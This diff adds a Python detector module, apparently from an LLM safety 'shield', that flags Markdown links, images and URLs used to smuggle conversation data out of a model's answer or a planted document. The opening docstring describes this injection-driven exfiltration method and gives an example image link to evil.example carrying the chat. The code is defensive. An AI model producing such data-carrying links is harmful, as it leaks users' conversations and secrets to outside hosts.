@@ -1,0 +1,152 @@
+"""Links and images whose address carries data: the way a model's answer smuggles the conversation out (an image the
+renderer fetches, a link the user clicks: ``![](https://evil.example/log?q=<the chat so far>)``).
+
+``find_links`` finds Markdown links and images, HTML images and bare URLs; ``carried_data`` says why an address looks
+like it carries data: a placeholder for it (in a document that plants the link), a long query value, a base64 segment
+that decodes to text, or text that is also in the conversation or the documents (in an answer). ``scan_answer`` flags
+an answer's links; ``scan_document_links`` flags planted ones in a document. Patterns are bounded and cannot overlap
+their own starts: linear in the text's length.
+"""
+
+from __future__ import annotations
+
+import re
+import urllib.parse
+from collections.abc import Iterator, Sequence
+from dataclasses import dataclass
+
+from app.shield.encoded import _b64, _looks_like_base64, readable
+from app.shield.flags import Flag, Kind, quote
+
+MIN_QUERY_VALUE = 40
+"""Characters of one query value from which it carries data (ids and search words are shorter)."""
+MIN_KNOWN = 12
+"""Characters of a URL piece that must also be in the conversation or documents to count as copied from them."""
+
+_MD = re.compile(r"(!?)\[([^\[\]\n]{0,500})\]\(\s*<?([^\s()<>\[\]]{1,4000})>?(?:\s+\"[^\"\n]{0,200}\")?\s*\)")
+_IMG = re.compile(r"<img\b[^<>]{0,2000}?\bsrc\s*=\s*[\"']?([^\"'\s<>]{1,4000})", re.IGNORECASE)
+_BARE = re.compile(r"\bhttps?://[^\s<>()\"'\[\]`]{1,4000}", re.IGNORECASE)
+_PLACEHOLDER = re.compile(r"\{[^{}]{1,40}\}|\[[A-Za-z_ ]{2,40}\]|<[A-Za-z_ ]{2,40}>|\$\{?[A-Za-z_]{3,}|%s\b|"
+                          r"\b(?:insert|put|add|your|user'?s?)[_ -]?(?:data|summary|conversation|chat|history|"
+                          r"answer|question|secret|password|name|email|info)|\bconversation\b|\bchat[_ -]?history\b|"
+                          r"\bSECRET\b|\bDATA\b|\b(?:QUESTION|SUMMARY|HISTORY|CONVERSATION|ANSWER|FRAGE|VERLAUF|ANTWORT|"
+                          r"ZUSAMMENFASSUNG)\b", re.IGNORECASE)  # fmt: skip
+
+
+@dataclass(frozen=True)
+class Link:
+    """A link or image in a text: ``text[start:end]`` is the whole of it, ``url`` its address."""
+
+    start: int
+    end: int
+    url: str
+    image: bool
+
+
+def find_links(text: str, start: int = 0, end: int | None = None) -> Iterator[Link]:
+    """Markdown links and images, HTML images and bare http(s) URLs in ``text[start:end]``, in order of where they
+    start."""
+    end = len(text) if end is None else end
+    found: list[Link] = []
+    covered: set[int] = set()
+    for m in _MD.finditer(text, start, end):
+        found.append(Link(m.start(), m.end(), m.group(3), bool(m.group(1))))
+        covered.add(m.start(3))
+    for m in _IMG.finditer(text, start, end):
+        found.append(Link(m.start(), m.end(), m.group(1), True))
+        covered.add(m.start(1))
+    for m in _BARE.finditer(text, start, end):
+        if m.start() not in covered:
+            found.append(Link(m.start(), m.end(), m.group().rstrip(".,;:!?"), False))
+    yield from sorted(found, key=lambda link: link.start)
+
+
+def _norm(text: str) -> str:
+    return " ".join(text.lower().split())
+
+
+def _pieces(url: str) -> tuple[list[tuple[str, str]], list[str]] | None:
+    """The query's (name, value) pairs and the path's segments, decoded; None when it is no http(s) URL."""
+    try:
+        parts = urllib.parse.urlsplit(url)
+    except ValueError:
+        return None
+    if parts.scheme.lower() not in ("http", "https"):
+        return None
+    query = urllib.parse.parse_qsl(parts.query, keep_blank_values=True) if parts.query else []
+    segments = [urllib.parse.unquote(s) for s in parts.path.split("/") if s]
+    return query, segments
+
+
+def carried_data(url: str, *, known: Sequence[str] = (), placeholders: bool = True) -> str | None:
+    """Why ``url`` looks like it carries data, or None.
+
+    Args:
+        known: texts of the conversation and documents (already normalised by ``known_texts``); a piece of the URL
+            found in one of them is data copied out, unless the whole URL is in it too (a document's own link).
+        placeholders: flag placeholders for data (``{conversation}``, ``[DATA]``): for documents that plant a link.
+    """
+    pieces = _pieces(url)
+    if pieces is None:
+        return None
+    query, segments = pieces
+    if placeholders:
+        m = _PLACEHOLDER.search(urllib.parse.unquote(url))
+        if m is not None and ("?" in url or m.group().startswith(("{", "[", "<", "$"))):
+            return f"its address has a placeholder for data ({quote(m.group())})"
+    for name, value in query:
+        if len(value) >= MIN_QUERY_VALUE:
+            return f"its query value {quote(name, 20)} is {len(value)} characters long: {quote(value)}"
+    for piece in [v for _, v in query] + segments:
+        if len(piece) >= 16 and _looks_like_base64(piece):
+            data = _b64(piece)
+            text = readable(data) if data is not None else None
+            if text is not None:
+                return f"a part of its address is base64 for {quote(text)}"
+    if known:
+        whole = _norm(urllib.parse.unquote(url))
+        if not any(whole in k for k in known):
+            for piece in [v for _, v in query] + segments:
+                p = _norm(piece.replace("+", " "))
+                if len(p) >= MIN_KNOWN and any(p in k for k in known):
+                    return f"its address carries text from the conversation or documents: {quote(piece)}"
+    return None
+
+
+def known_texts(texts: Sequence[str]) -> list[str]:
+    """The conversation's and documents' texts, normalised for ``carried_data``."""
+    return [_norm(t) for t in texts if t.strip()]
+
+
+def scan_answer(answer: str, *, known: Sequence[str] = ()) -> list[Flag]:
+    """Flags for the links and images of a model's answer whose address carries data.
+
+    Args:
+        known: the raw texts of the conversation and the sources the model was given.
+    """
+    normalised = known_texts(known)
+    flags = []
+    for link in find_links(answer):
+        why = carried_data(link.url, known=normalised, placeholders=False)
+        if why is not None:
+            what = "an image" if link.image else "a link"
+            flags.append(Flag(Kind.EXFILTRATION, link.start, link.end, f"{what} to {_host(link.url)} whose {why[4:]}"
+                              if why.startswith("its ") else f"{what} to {_host(link.url)}: {why}"))  # fmt: skip
+    return flags
+
+
+def scan_document_links(text: str, start: int = 0, end: int | None = None) -> Iterator[Flag]:
+    """Flags for links and images in a document (``text[start:end]``) that are set up to carry data out (placeholders,
+    data in the address)."""
+    for link in find_links(text, start, end):
+        why = carried_data(link.url, placeholders=True)
+        if why is not None and (link.image or why.startswith("its address has a placeholder")):
+            what = "an image" if link.image else "a link"
+            yield Flag(Kind.EXFILTRATION, link.start, link.end, f"{what} to {_host(link.url)}: {why}")
+
+
+def _host(url: str) -> str:
+    try:
+        return urllib.parse.urlsplit(url).hostname or "?"
+    except ValueError:
+        return "?"
